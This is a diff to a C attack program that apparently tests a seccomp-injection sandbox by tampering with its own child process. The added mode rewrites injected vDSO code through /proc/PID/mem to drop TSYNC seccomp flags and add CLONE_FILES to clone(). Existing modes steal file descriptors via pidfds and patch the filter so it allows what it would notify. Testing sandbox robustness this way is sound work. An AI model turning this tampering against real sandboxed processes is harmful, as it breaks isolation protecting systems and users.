@@ -8,6 +8,7 @@
  *   getfd   (with the target's process id) takes it through a pidfd of the target's process
  *   thread  (the same) through a pidfd of each thread that it finds
  *   write   (the same) makes the program allow what it would notify, through /proc/PID/mem
+ *   code    (the same) takes TSYNC out of the injected call's flags, and adds CLONE_FILES to clone()'s
  *
  * "report" tells how often it has succeeded.
  */
@@ -122,8 +123,22 @@ static void steal_by_thread(pid_t pid)
 	}
 }
 
+/* "mov $flags, %esi" of seccomp(), "mov $flags, %edi" of clone(). */
+static bool change_flags(unsigned char code, uint32_t *flags)
+{
+	const uint32_t tsync = SECCOMP_FILTER_FLAG_TSYNC | SECCOMP_FILTER_FLAG_TSYNC_ESRCH;
+
+	if (code == 0xbe && (*flags & tsync) == tsync && *flags < 0x100)
+		*flags &= ~tsync;
+	else if (code == 0xbf && *flags == (CLONE_VM | CLONE_FS | CLONE_SIGHAND | CLONE_THREAD))
+		*flags |= CLONE_FILES;
+	else
+		return false;
+	return true;
+}
+
 /* The vDSO, where the injected code and its program are. */
-static void rewrite(pid_t pid)
+static void rewrite(pid_t pid, bool code)
 {
 	unsigned long start = 0, end = 0;
 	static unsigned char page[4096];
@@ -143,7 +158,14 @@ static void rewrite(pid_t pid)
 	for (;;) {
 		if (pread(mem, page, sizeof(page), (off_t)(end - sizeof(page))) != (ssize_t)sizeof(page))
 			continue;
-		for (size_t at = 2048; at + 8 <= sizeof(page); at += 8) {
+		for (size_t at = 2048; code && at + 5 <= sizeof(page); at++) {
+			uint32_t flags;
+
+			memcpy(&flags, page + at + 1, 4);
+			if (change_flags(page[at], &flags) && pwrite(mem, &flags, 4, (off_t)(end - sizeof(page) + at + 1)) == 4)
+				(*taken)++;
+		}
+		for (size_t at = 2048; !code && at + 8 <= sizeof(page); at += 8) {
 			uint32_t k;
 
 			memcpy(&k, page + at + 4, 4);
@@ -163,7 +185,7 @@ static void attack(const char *how, pid_t pid)
 	else if (strcmp(how, "thread") == 0)
 		steal_by_thread(pid);
 	else
-		rewrite(pid);
+		rewrite(pid, strcmp(how, "code") == 0);
 }
 
 /* Parent and child share memory; the child is the target, and the parent waits for it. */
